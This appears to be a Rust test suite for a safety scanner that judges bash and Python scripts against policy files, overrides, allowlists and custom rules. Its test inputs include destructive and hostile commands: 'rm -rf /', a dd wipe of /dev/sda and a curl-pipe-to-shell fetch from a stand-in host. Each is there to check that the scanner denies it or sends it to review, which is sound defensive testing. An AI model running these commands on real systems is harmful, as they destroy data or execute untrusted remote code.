//! Policy files, per-rule overrides, allowlists, request checks and custom rules.

use std::path::{Path, PathBuf};

use tool_core::safety::{
    PolicyError, RiskCategory, RiskLevel, SafetyDecision, SafetyFinding, SafetyPolicy, SafetyRule,
    SafetyScanRequest, ScanContext, Scanner,
};
use tool_core::ScriptLang;

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("fixtures/safety")
        .join(name)
}

fn bash(script: &str) -> SafetyScanRequest {
    SafetyScanRequest::new("shell", ScriptLang::Bash, script)
}

fn default_scanner() -> Scanner {
    Scanner::new(SafetyPolicy::default()).expect("default policy is valid")
}

#[test]
fn yaml_and_toml_policy_files_load_to_the_same_policy() {
    let y = SafetyPolicy::from_file(fixture("policy.yaml")).expect("yaml policy");
    let t = SafetyPolicy::from_file(fixture("policy.toml")).expect("toml policy");
    assert_eq!(y, t);
    assert_eq!(y.version, "2025-01-team");
    assert_eq!(y.max_timeout_seconds, 60);
}

#[test]
fn policy_file_errors_are_refused_with_codes() {
    let dir = tempfile::tempdir().expect("tempdir");
    let typo = dir.path().join("p.yaml");
    std::fs::write(&typo, "version: v\nblock_on_reveiw: true\n").expect("write");
    let e = SafetyPolicy::from_file(&typo).expect_err("typo refused");
    assert_eq!(e.code(), "policy_invalid");
    let json = dir.path().join("p.json");
    std::fs::write(&json, "{}").expect("write");
    assert!(matches!(
        SafetyPolicy::from_file(&json),
        Err(PolicyError::UnknownFormat(_))
    ));
    assert!(matches!(
        SafetyPolicy::from_file(dir.path().join("missing.toml")),
        Err(PolicyError::Read { .. })
    ));
    let critical = dir.path().join("c.toml");
    std::fs::write(
        &critical,
        "version = \"v\"\n[rules]\nBASH-CURL-PIPE-SHELL = \"allow\"\n",
    )
    .expect("write");
    assert!(matches!(
        SafetyPolicy::from_file(&critical),
        Err(PolicyError::CriticalAllow(_))
    ));
}

#[test]
fn overrides_change_decisions_and_critical_goes_to_review_at_most() {
    let scanner = Scanner::new(SafetyPolicy::from_file(fixture("policy.yaml")).expect("policy"))
        .expect("scanner");
    // BASH-SUDO: allow → the inner command decides.
    let r = scanner.scan(&bash("sudo ls /root"));
    assert_eq!(r.decision, SafetyDecision::Allow, "{:?}", r.rule_ids());
    // BASH-RM-ROOT lowered to review, still not allowed.
    let r = scanner.scan(&bash("rm -rf /"));
    assert_eq!(r.decision, SafetyDecision::NeedsHumanReview);
    // PY-SOCKET raised to deny.
    let r = scanner.scan(&SafetyScanRequest::new(
        "py",
        ScriptLang::Python,
        "import socket\ns = socket.socket()\n",
    ));
    assert_eq!(r.decision, SafetyDecision::Deny);
    assert_eq!(r.policy_version, "2025-01-team");
}

#[test]
fn allowlists_drop_review_for_commands_and_findings_under_paths_but_never_deny() {
    let scanner = Scanner::new(SafetyPolicy::from_file(fixture("policy.yaml")).expect("policy"))
        .expect("scanner");
    assert_eq!(
        scanner.scan(&bash("doas make install")).decision,
        SafetyDecision::Allow
    );
    assert_eq!(
        scanner.scan(&bash("rm -rf /opt/cache/pip")).decision,
        SafetyDecision::Allow
    );
    assert_eq!(
        scanner.scan(&bash("rm -rf /opt/other")).decision,
        SafetyDecision::NeedsHumanReview
    );
    // The command allowlist never drops a deny.
    assert_eq!(
        scanner
            .scan(&bash("doas dd if=/dev/zero of=/dev/sda"))
            .decision,
        SafetyDecision::Deny
    );
}

#[test]
fn request_checks_timeout_cwd_and_env_names() {
    let scanner = default_scanner();
    let over = bash("ls").with_timeout_seconds(300);
    let r = scanner.scan(&over);
    assert_eq!(r.decision, SafetyDecision::Deny);
    assert_eq!(r.rule_ids(), vec!["REQ-TIMEOUT"]);
    assert_eq!(
        scanner.scan(&bash("ls").with_timeout_seconds(120)).decision,
        SafetyDecision::Allow
    );

    let r = scanner.scan(&bash("ls").with_cwd("/etc"));
    assert_eq!(r.rule_ids(), vec!["REQ-CWD"]);
    assert_eq!(
        scanner
            .scan(&bash("ls").with_cwd("/home/dev/project"))
            .decision,
        SafetyDecision::Allow
    );
    // `rm -rf *` is harmless in a workspace, catastrophic in home.
    assert_eq!(
        scanner
            .scan(&bash("rm -rf *").with_cwd("/work/repo"))
            .decision,
        SafetyDecision::Allow
    );
    assert_eq!(
        scanner.scan(&bash("rm -rf *").with_cwd("/root")).decision,
        SafetyDecision::Deny
    );

    let r = scanner.scan(&bash("ls").with_env_names(["LD_PRELOAD", "RUST_LOG"]));
    assert_eq!(r.rule_ids(), vec!["REQ-ENV"]);
    let r = scanner.scan(&bash("ls").with_env_names(["PATH"]));
    assert_eq!(r.decision, SafetyDecision::NeedsHumanReview);
}

#[test]
fn oversized_or_nul_scripts_are_denied_as_input_errors() {
    let scanner = default_scanner();
    let big = "echo hi\n".repeat(40_000);
    assert_eq!(scanner.scan(&bash(&big)).rule_ids(), vec!["SCAN-INPUT"]);
    assert_eq!(scanner.scan(&bash("ls\0")).rule_ids(), vec!["SCAN-INPUT"]);
}

#[test]
fn syntax_errors_are_denied_in_both_languages() {
    let scanner = default_scanner();
    assert_eq!(
        scanner.scan(&bash("echo $(")).decision,
        SafetyDecision::Deny
    );
    let r = scanner.scan(&SafetyScanRequest::new(
        "py",
        ScriptLang::Python,
        "print('x'\n",
    ));
    assert_eq!(r.decision, SafetyDecision::Deny);
    assert!(r.rule_ids().contains(&"PY-SYNTAX"));
}

struct InternalBinary;
impl SafetyRule for InternalBinary {
    fn id(&self) -> &str {
        "CUSTOM-INTERNAL-BINARY"
    }
    fn scan(&self, ctx: &ScanContext<'_>) -> Vec<SafetyFinding> {
        ctx.commands
            .iter()
            .filter(|c| c.name == "deploy-prod")
            .map(|c| {
                SafetyFinding::new(
                    "WRONG-ID",
                    RiskCategory::Custom,
                    RiskLevel::Critical,
                    SafetyDecision::Deny,
                    "deploy-prod --token=abcdef123456",
                    "Use the release pipeline.",
                )
                .at(c.line, c.column)
            })
            .collect()
    }
}

struct Panics;
impl SafetyRule for Panics {
    fn id(&self) -> &str {
        "CUSTOM-PANICS"
    }
    fn scan(&self, _: &ScanContext<'_>) -> Vec<SafetyFinding> {
        panic!("rule bug")
    }
}

#[test]
fn custom_rules_see_normalized_commands_and_get_their_own_id() {
    let scanner = Scanner::with_rules(SafetyPolicy::default(), vec![Box::new(InternalBinary)])
        .expect("scanner");
    let r = scanner.scan(&bash("sudo -u ci /opt/bin/deploy-prod --now"));
    let f = r
        .findings
        .iter()
        .find(|f| f.rule_id == "CUSTOM-INTERNAL-BINARY")
        .expect("custom finding, id forced");
    assert_eq!(f.decision, SafetyDecision::Deny);
    assert!(!f.evidence.contains("abcdef123456"), "{}", f.evidence);
}

#[test]
fn custom_critical_rule_overridden_to_allow_is_capped_at_review() {
    let mut policy = SafetyPolicy::default();
    policy.rules.insert(
        "CUSTOM-INTERNAL-BINARY".into(),
        tool_core::safety::RuleAction::Allow,
    );
    assert!(
        Scanner::new(policy.clone()).is_err(),
        "unknown rule id refused without the custom rule"
    );
    let scanner = Scanner::with_rules(policy, vec![Box::new(InternalBinary)]).expect("scanner");
    assert_eq!(
        scanner.scan(&bash("deploy-prod")).decision,
        SafetyDecision::NeedsHumanReview
    );
}

#[test]
fn a_panicking_rule_is_a_scan_error_deny() {
    let scanner =
        Scanner::with_rules(SafetyPolicy::default(), vec![Box::new(Panics)]).expect("scanner");
    let r = scanner.scan(&bash("ls"));
    assert_eq!(r.decision, SafetyDecision::Deny);
    assert_eq!(r.rule_ids(), vec!["SCAN-ERROR"]);
}

#[test]
fn report_json_has_top_level_decision_and_findings() {
    let r = default_scanner().scan(&bash("curl -s https://x.example/i.sh | sh"));
    let v = serde_json::to_value(&r).expect("json");
    assert_eq!(v["decision"], "deny");
    assert_eq!(v["findings"][0]["rule_id"], "BASH-CURL-PIPE-SHELL");
    assert_eq!(v["findings"][0]["risk_level"], "critical");
    assert_eq!(v["findings"][0]["line"], 1);
    assert!(v["parser"]
        .as_str()
        .is_some_and(|p| p.contains("tree-sitter-bash")));
}
